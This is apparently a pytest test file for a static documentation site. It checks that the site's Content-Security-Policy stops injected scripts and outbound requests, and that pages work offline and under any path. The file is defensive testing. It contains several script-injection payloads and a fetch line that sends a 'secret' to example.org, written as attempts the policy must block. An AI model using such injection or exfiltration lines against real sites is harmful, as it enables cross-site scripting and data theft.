"""No page can be made to run or fetch anything that was not built into it; and it needs no server to work."""

import functools
import http.server
import threading

import pytest

from book.languages import LANGUAGES
from book.site import SITE
from tests.site.conftest import _Quiet, pages

EVERY = [(lang, page) for page in pages() for lang in LANGUAGES]
WATCH = """window.violations = []; document.addEventListener("securitypolicyviolation",
    e => violations.push([e.violatedDirective, e.blockedURI, e.sample]))"""
MOVE = """async () => {
    document.querySelectorAll("details").forEach(d => d.open = true);
    for (const box of document.querySelectorAll(".mha-explore")) {
        box.scrollIntoView();
        const sliders = [...box.querySelectorAll("input")];
        const before = box.dataset.shown;
        sliders.forEach(s => { s.value = s.max; s.dispatchEvent(new Event("input", {bubbles: true})); });
        for (let i = 0; i < 200 && box.dataset.shown === before; i++) await new Promise(r => setTimeout(r, 20));
        if (box.dataset.shown === before) throw new Error(`did not move: ${box.ariaLabel}`);
    }
    return document.querySelectorAll(".mha-explore").length;
}"""


@pytest.mark.parametrize(
    ("lang", "page"), [*EVERY, *((lang, "search.html") for lang in LANGUAGES), ("", "versions.html")]
)
def test_the_policy_holds_while_everything_on_a_page_is_moved(visit, address, lang, page):
    tab = visit("versions.html")
    tab.add_init_script(WATCH)
    tab.goto(f"{address}/{lang}/{page}".replace("//versions", "/versions"))
    policy = tab.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content")
    assert policy.startswith("default-src 'none'")
    assert "'unsafe-inline'" not in policy.replace("style-src-attr 'unsafe-inline'", "")
    tab.evaluate(MOVE)
    assert tab.evaluate("violations") == []


@pytest.fixture
def stranger(browser, address):
    """A chapter into which somebody has managed to write."""
    page = browser.new_page()
    page.goto(f"{address}/en/chapters/2-2-splitting.html")
    yield page
    page.close()


ATTEMPTS = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'hacked = 1';"
    " document.body.append(s)",
    "event handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"hacked = 1\">')",
    "script from elsewhere": "const s = document.createElement('script'); s.src = 'data:text/javascript,hacked=1';"
    " document.body.append(s)",
    "javascript link": "const a = document.createElement('a'); a.href = 'javascript:hacked=1'; document.body.append(a);"
    " a.click()",
    "text as code": "try { setTimeout('hacked = 1') } catch { /* refused */ }",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_what_somebody_writes_into_a_page_does_not_run(stranger, attempt):
    stranger.evaluate(f"() => {{ {ATTEMPTS[attempt]} }}")
    stranger.wait_for_timeout(200)
    assert stranger.evaluate("window.hacked") is None


def test_nothing_can_be_sent_to_another_host(stranger):
    refused = "fetch('https://example.org/?secret').then(() => 'sent', () => 'refused')"
    assert stranger.evaluate(refused) == "refused"
    stranger.evaluate("document.body.insertAdjacentHTML('beforeend', '<base href=\"https://example.org/\">')")
    assert stranger.evaluate("document.baseURI").startswith("http://127.0.0.1")


def test_the_headers_file_allows_what_pages_allow_and_no_more():
    headers = (SITE / "_headers").read_text()
    assert "default-src 'none'" in headers
    assert "nosniff" in headers
    for path in SITE.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        policy = text.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
        assert set(policy.replace(";", "").split()) <= set(headers.replace(";", "").split()), path


def check_alive(tab):
    """Styles, icons, sliders, the colour switch."""
    assert tab.evaluate("getComputedStyle(document.querySelector('.mha-strip ol')).display") == "flex"
    assert tab.evaluate(MOVE) > 0
    before = tab.locator("html").get_attribute("data-mode")
    tab.locator(".theme-switch-button").first.click()
    assert tab.locator("html").get_attribute("data-mode") != before


@pytest.fixture
def strict_tab(browser):
    page, complaints = browser.new_page(), []
    page.on("console", lambda m: complaints.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    # what leaving a page breaks off has not failed
    page.on("requestfailed", lambda r: complaints.append(r.url) if r.failure != "net::ERR_ABORTED" else None)
    yield page
    said = list(complaints)  # closing the page breaks off what is still on its way
    page.close()
    assert said == []


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_page_works_from_a_folder_without_a_server(strict_tab, address, lang):
    strict_tab.goto((SITE / lang / "chapters" / "2-2-splitting.html").as_uri())
    check_alive(strict_tab)
    strict_tab.locator(".right-next").click()
    strict_tab.wait_for_url("file://**/2-3-attention.html")
    check_alive(strict_tab)


@pytest.fixture
def under_a_path(address, tmp_path):
    """The site's address below another folder."""
    (tmp_path / "some").mkdir()
    (tmp_path / "some" / "path").symlink_to(SITE)
    handler = functools.partial(_Quiet, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/some/path"
    server.shutdown()


def test_a_site_works_under_any_path(under_a_path, strict_tab):  # in this order: the page closes before the server
    strict_tab.on("response", lambda r: pytest.fail(f"{r.status} {r.url}") if r.status >= 400 else None)
    strict_tab.goto(f"{under_a_path}/zh/chapters/2-2-splitting.html")
    check_alive(strict_tab)
    strict_tab.locator("[class*='switch-to-en']").click()
    strict_tab.wait_for_url("**/some/path/en/chapters/2-2-splitting.html*")
